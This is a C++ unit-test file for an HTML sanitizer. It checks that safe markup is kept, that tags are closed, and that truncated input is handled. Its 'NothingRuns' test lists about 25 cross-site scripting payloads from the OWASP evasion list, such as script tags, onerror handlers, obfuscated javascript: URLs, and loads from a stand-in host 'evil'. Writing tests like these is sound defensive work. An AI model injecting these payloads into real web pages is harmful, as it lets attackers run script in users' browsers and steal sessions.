// Other people's HTML: what is harmless stays, nothing else does. The attacks are those of the OWASP list of cross-site
// scripting filter evasion.
#include "document/html.h"

#include <gtest/gtest.h>

namespace saltus::document {
namespace {

std::string clean(std::string_view html) {
  Links links;
  links.page = [](std::string_view url) {
    return url.starts_with("modelica://") ? "to.html" : url.starts_with("https://") ? std::string(url) : "";
  };
  links.image = [](std::string_view url) { return url.starts_with("modelica://") ? "pic.png" : ""; };
  return sanitized(html, links);
}

TEST(Sanitize, HarmlessStays) {
  EXPECT_EQ(clean("<p>a <strong>b</strong> &amp; c &alpha; <sub>1</sub></p>"),
            "<p>a <strong>b</strong> &amp; c &alpha; <sub>1</sub></p>");
  EXPECT_EQ(clean("<table border=1><tr><td colspan='2'>x</td></tr></table>"),
            "<table border=\"1\"><tr><td colspan=\"2\">x</td></tr></table>");
  EXPECT_EQ(clean("<a href=\"modelica://A.B\">x</a>"), "<a href=\"to.html\">x</a>");
  EXPECT_EQ(clean("<img src=\"modelica://A/b.png\" alt=\"b\">"), "<img src=\"pic.png\" alt=\"b\" loading=\"lazy\">");
  EXPECT_EQ(clean("<html><body>x</body></html>"), "x");
  EXPECT_EQ(clean("1 < 2 & 3 > 2"), "1 &lt; 2 &amp; 3 &gt; 2");
}

TEST(Sanitize, WhatIsOpenedIsClosed) {
  EXPECT_EQ(clean("<ul><li>a<li>b</ul><b>c"), "<ul><li>a</li><li>b</li></ul><b>c</b>");
  EXPECT_EQ(clean("</div></p>x"), "x");
  EXPECT_EQ(clean("<b><i>x</b>y</i>"), "<b><i>x</i></b>y");
}

TEST(Sanitize, NothingRuns) {
  const char* attacks[] = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<img src=x onerror=alert(1)>",
      "<img src=\"javascript:alert(1)\">",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"java&#115;cript:alert(1)\">x</a>",
      "<a href=\" &#14; javascript:alert(1)\">x</a>",
      "<a onclick=\"alert(1)\" href=\"modelica://A\">x</a>",
      "<p style=\"background:url(http://evil)\" onmouseover=alert(1)>x</p>",
      "<iframe src=\"http://evil\"></iframe>",
      "<svg onload=alert(1)><script>alert(1)</script></svg>",
      "<math><mtext><img src onerror=alert(1)></mtext></math>",
      "<object data=\"http://evil\"></object><embed src=x>",
      "<form action=\"http://evil\"><input onfocus=alert(1) autofocus></form>",
      "<meta http-equiv=refresh content=\"0;url=http://evil\">",
      "<base href=\"http://evil/\">",
      "<link rel=stylesheet href=http://evil>",
      "<style>@import 'http://evil';</style>",
      "<img src=\"http://evil/track.gif\">",
      "<p title=\"\"><script>alert(1)</script>\">x</p>",
      "<!--><script>alert(1)</script>-->",
      "<p title='a\" onclick=\"alert(1)'>x</p>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  };
  for (const char* attack : attacks) {
    std::string got = clean(attack);
    EXPECT_EQ(got.find("<script"), std::string::npos) << attack << " → " << got;
    EXPECT_EQ(got.find("javascript:"), std::string::npos) << attack << " → " << got;
    EXPECT_EQ(got.find("evil"), std::string::npos) << attack << " → " << got;
    for (size_t tag = got.find('<'); tag != std::string::npos; tag = got.find('<', tag + 1)) {
      std::string inside = got.substr(tag, got.find('>', tag) - tag);
      // A handler outside of a quoted value would be one.
      bool quoted = false;
      for (size_t k = 0; k < inside.size(); ++k) {
        if (inside[k] == '"') quoted = !quoted;
        EXPECT_FALSE(!quoted && inside.compare(k, 3, " on") == 0) << attack << " → " << got;
      }
    }
  }
}

TEST(Sanitize, UnfinishedTextEnds) {
  for (const char* text : {"<", "<p", "<p title=\"", "<!--", "<a href='", "</", "&", "&#", "<script>", "<p title=x"})
    clean(text);
}

}  // namespace
}  // namespace saltus::document
